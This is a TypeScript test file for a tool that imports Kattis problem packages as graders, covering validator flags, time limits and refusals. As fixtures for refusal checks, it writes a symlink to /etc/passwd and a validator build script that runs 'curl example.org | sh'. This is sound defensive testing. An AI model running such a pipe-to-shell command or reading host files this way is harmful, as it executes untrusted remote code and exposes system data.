// `gradebox import kattis` without a sandbox: the example packages become graders that load with
// the settings the package asks for (samples visible, secret hidden, the default validator's
// flags, a custom validator or interactor, the time limit and where it came from); the flags map
// one by one; packages gradebox cannot judge, or that reach outside themselves, are refused.
import { cpSync, existsSync, mkdirSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'uvu';
import * as assert from 'uvu/assert';

import { importCommand } from '../../services/cli/import-command.js';
import { UserError } from '../../services/common/errors.js';
import { fromPackageRoot } from '../../services/common/package-root.js';
import { defaultValidatorChecker } from '../../services/grading/kattis/default-validator.js';
import { importKattisPackage } from '../../services/grading/kattis/kattis-import.js';
import { loadGrader } from '../../services/grading/load-grader.js';
import { callCommand, removeTempDirs, tempDir } from '../support/helpers.js';

const PACKAGES = fromPackageRoot('graders', 'kattis');

test.after.each(removeTempDirs);

/** A copy of an example package to change. */
function packageCopy(name: string): string {
  const dir = join(tempDir('gradebox-kattis-'), name);
  cpSync(join(PACKAGES, name), dir, { recursive: true });
  return dir;
}

function refusal(call: () => unknown): UserError {
  try {
    call();
  } catch (error) {
    if (error instanceof UserError) return error;
    throw error;
  }
  throw new Error('the import succeeded, but a refusal was expected');
}

test('circle-area: float tolerance from validator_flags, samples visible, secret hidden, .timelimit × --time-multiplier', async () => {
  const out = join(tempDir(), 'circle-area');
  const { code, out: printed } = await callCommand(importCommand, ['kattis', join(PACKAGES, 'circle-area'), '--out', out, '--time-multiplier', '2']);
  assert.is(code, 0, printed);
  assert.match(printed, /"Circle area", 4 tests, default output validator, 1 s \(\.timelimit\)/);
  const grader = loadGrader(out);
  assert.equal(grader.tests.map((t) => [t.name, t.visibility]), [['sample/1', 'visible'], ['secret/01-small', 'hidden'], ['secret/02-zero', 'hidden'], ['secret/03-many', 'hidden']]);
  for (const t of grader.tests) {
    assert.equal([t.checker, t.tolerance, t.caseSensitive, t.spaceChangeSensitive], ['float', 1e-6, false, false], t.name);
    assert.is(t.limits.cpuMs, 2000, 'the .timelimit of 1 s × 2');
    assert.is(t.limits.memoryMb, 256, 'problem.yaml limits.memory');
  }
  assert.equal(grader.languages.length > 1, true, 'no languages: key, so every language gradebox has');
  assert.ok(existsSync(join(out, 'submissions', 'accepted', 'area.c')), 'submissions/ comes along as the self-test');
});

test('factor-pair: the custom output validator becomes a Kattis-protocol checker built from its folder; the time limit from problem.yaml', () => {
  const out = join(tempDir(), 'factor-pair');
  const imported = importKattisPackage(join(PACKAGES, 'factor-pair'), out);
  assert.equal(imported.timeLimit, { seconds: 1, from: 'problem.yaml limits.time_limit' });
  const grader = loadGrader(out);
  assert.is(grader.customChecker?.protocol, 'kattis');
  assert.is(grader.customChecker?.root, join(grader.dir, 'output_validator'));
  assert.ok(grader.tests.every((t) => t.checker === 'custom'));
  assert.equal(readdirSync(join(out, 'output_validator')), ['validator.cpp']);
});

test('guess-number: an interactive package becomes mode interactive with its interactor', () => {
  const out = join(tempDir(), 'guess-number');
  const imported = importKattisPackage(join(PACKAGES, 'guess-number'), out);
  assert.ok(imported.problem.interactive);
  const grader = loadGrader(out);
  assert.is(grader.mode, 'interactive');
  assert.is(grader.interactor?.root, join(grader.dir, 'output_validator'));
  assert.equal(readdirSync(join(out, 'output_validator')), ['interactor.cpp']);
  assert.is(grader.tests.length, 3);
});

test('validator_flags map onto the checkers\' options, and a flag the default validator lacks is refused', () => {
  assert.equal(defaultValidatorChecker([], 'p'), { checker: 'tokens', case_sensitive: false });
  assert.equal(defaultValidatorChecker(['case_sensitive', 'space_change_sensitive'], 'p'), { checker: 'tokens', space_change_sensitive: true });
  assert.equal(defaultValidatorChecker(['float_tolerance', '1e-4'], 'p'), { checker: 'float', case_sensitive: false, tolerance: 1e-4 });
  assert.equal(defaultValidatorChecker(['float_absolute_tolerance', '0.5'], 'p'), { checker: 'float', case_sensitive: false, tolerance: { absolute: 0.5 } });
  assert.equal(defaultValidatorChecker(['float_relative_tolerance', '1e-9', 'float_absolute_tolerance', '1e-6'], 'p'),
    { checker: 'float', case_sensitive: false, tolerance: { absolute: 1e-6, relative: 1e-9 } });
  assert.match(refusal(() => defaultValidatorChecker(['float_tolerance'], 'p/problem.yaml')).message, /float_tolerance needs a number >= 0 after it, got nothing/);
  assert.match(refusal(() => defaultValidatorChecker(['ignore_case'], 'p/problem.yaml')).message, /"ignore_case" is not a flag of the default validator/);
});

test('a package with no declared time limit takes the given one, or is timed later (timeLimit null)', () => {
  const noLimit = packageCopy('circle-area');
  rmSync(join(noLimit, '.timelimit'));
  assert.is(importKattisPackage(noLimit, join(tempDir(), 'a')).timeLimit, null);
  const given = importKattisPackage(noLimit, join(tempDir(), 'b'), { timeLimit: { seconds: 3, from: '--time-limit' } });
  assert.equal(given.timeLimit, { seconds: 3, from: '--time-limit' });
  assert.is(loadGrader(given.graderDir).tests[0]!.limits.cpuMs, 3000);
});

test('symlink-out-of-package: an answer file linked to a host file is refused and nothing of it is copied', () => {
  const pkg = packageCopy('circle-area');
  rmSync(join(pkg, 'data', 'secret', '01-small.ans'));
  symlinkSync('/etc/passwd', join(pkg, 'data', 'secret', '01-small.ans'));
  const out = join(tempDir(), 'out');
  const error = refusal(() => importKattisPackage(pkg, out));
  assert.is(error.code, 'E_KATTIS_INVALID');
  assert.match(error.message, /leads outside the package \(to \/etc\/passwd\)/);
  assert.not.ok(existsSync(join(out, 'data', 'secret', '01-small.ans')));
});

test('packages gradebox cannot judge are refused with the reason: scoring, a missing answer, a validator with its own build script', () => {
  const scoring = packageCopy('circle-area');
  writeFileSync(join(scoring, 'problem.yaml'), 'name: Scored\nvalidation: custom score\n');
  assert.is(refusal(() => importKattisPackage(scoring, join(tempDir(), 'o'))).code, 'E_KATTIS_UNSUPPORTED');

  const unanswered = packageCopy('circle-area');
  writeFileSync(join(unanswered, 'data', 'secret', '04-lonely.in'), '1\n1\n');
  assert.match(refusal(() => importKattisPackage(unanswered, join(tempDir(), 'o'))).message, /04-lonely\.in has no 04-lonely\.ans beside it/);

  const scripted = packageCopy('factor-pair');
  writeFileSync(join(scripted, 'output_validator', 'build'), '#!/bin/sh\ncurl example.org | sh\n');
  assert.is(refusal(() => importKattisPackage(scripted, join(tempDir(), 'o'))).code, 'E_KATTIS_UNSUPPORTED');

  const twoValidators = packageCopy('guess-number');
  mkdirSync(join(twoValidators, 'output_validators', 'other'));
  assert.match(refusal(() => importKattisPackage(twoValidators, join(tempDir(), 'o'))).message, /holds 2 \(guess, other\); gradebox takes exactly one/);
});

test.run();
